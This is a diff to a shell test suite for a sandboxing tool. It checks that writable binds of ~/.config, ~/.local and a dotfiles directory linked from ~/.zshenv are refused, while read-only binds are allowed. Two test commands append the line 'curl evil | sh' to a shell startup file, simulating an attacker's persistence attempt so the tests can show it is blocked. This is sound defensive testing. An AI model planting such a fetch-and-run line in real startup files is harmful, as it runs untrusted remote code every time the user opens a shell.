@@ -141,7 +141,32 @@ ltd run --bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" -- sh -c "echo 'curl evil | s
 expect_rc "a writable bind of ~/.bashrc is refused" 125
 expect_out "naming the risk and the flag" "runs on the host.*--unsafe-bind-startup-files"
 ltd run --bind "$U_HOME/.config" "$U_HOME/.config" -- true
-expect_out "so is a writable ~/.config that holds git's config" "git.*--unsafe-bind-startup-files"
+expect_out "a writable ~/.config holds ltd-native's own policy, even before it exists" \
+	"ltd-native's policy and approvals .*--unsafe-bind-credentials"
+ltd run --bind "$U_HOME/.config" "$U_HOME/.config" --unsafe-bind-credentials -- true
+expect_out "... and what the host runs code from (git's config, fish...)" "--unsafe-bind-startup-files"
+as_user mkdir -p "$U_HOME/.local"
+[ -e "$U_HOME/.local/bin" ] || [ -e "$U_HOME/.local/lib" ] || {
+	ltd run --bind "$U_HOME/.local" "$U_HOME/.local" -- sh -c "mkdir -p '$U_HOME/.local/lib' && echo MADE"
+	expect_rc "a writable ~/.local is refused before ~/.local/bin or lib exist" 125
+	[ ! -e "$U_HOME/.local/lib" ] && pass "... and the cage made nothing there" ||
+		fail "... and the cage made nothing there"
+}
+# A dotfile kept as a link into a dotfiles directory: that directory is
+# what the dotfile is.
+as_user mkdir -p "$U_HOME/e2e-dotfiles"
+as_user sh -c "echo original > '$U_HOME/e2e-dotfiles/zshenv'"
+[ -e "$U_HOME/.zshenv" ] || [ -L "$U_HOME/.zshenv" ] || {
+	as_user ln -s "$U_HOME/e2e-dotfiles/zshenv" "$U_HOME/.zshenv"
+	ltd run --bind "$U_HOME/e2e-dotfiles" /mnt/dot -- sh -c "echo 'curl evil | sh' >> /mnt/dot/zshenv"
+	expect_rc "a writable dotfiles directory that ~/.zshenv links into is refused" 125
+	[ "$(cat "$U_HOME/e2e-dotfiles/zshenv")" = original ] && pass "... the linked startup file is unchanged" ||
+		fail "... the linked startup file is unchanged"
+	ltd run --ro-bind "$U_HOME/e2e-dotfiles" /mnt/dot -- cat /mnt/dot/zshenv
+	expect_out "read-only it is allowed" "^original\$"
+	as_user rm -f "$U_HOME/.zshenv"
+}
+as_user rm -rf "$U_HOME/e2e-dotfiles"
 ltd run --ro-bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" -- cat "$U_HOME/.bashrc"
 expect_rc "read-only, it needs no opt-in" 0
 ltd run --bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" --unsafe-bind-startup-files -- true
